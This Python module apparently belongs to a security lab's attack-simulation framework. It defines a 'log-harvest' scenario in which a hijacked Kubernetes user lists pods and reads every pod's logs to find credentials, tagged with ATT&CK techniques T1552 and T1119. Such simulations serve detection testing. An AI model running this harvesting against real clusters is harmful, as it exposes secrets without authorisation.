"""The logs of every pod, one after the other."""

from lab.story import Scenario, Stage


def _play(stage: Stage) -> None:
    thief = stage.hijack("carol")
    items = stage.must(thief.get("/api/v1/pods?limit=500")).json["items"]
    with stage.step("read all logs", thief, "credential-access", ("N09",)):
        for item in items:  # type: ignore[attr-defined]
            meta = item["metadata"]
            thief.get(f"/api/v1/namespaces/{meta['namespace']}/pods/{meta['name']}/log?limitBytes=4096")


SCENARIO = Scenario(
    "log-harvest",
    "The logs of all pods are read",
    "attack",
    "find credentials in logs",
    ("T1552", "T1119"),
    _play,
)
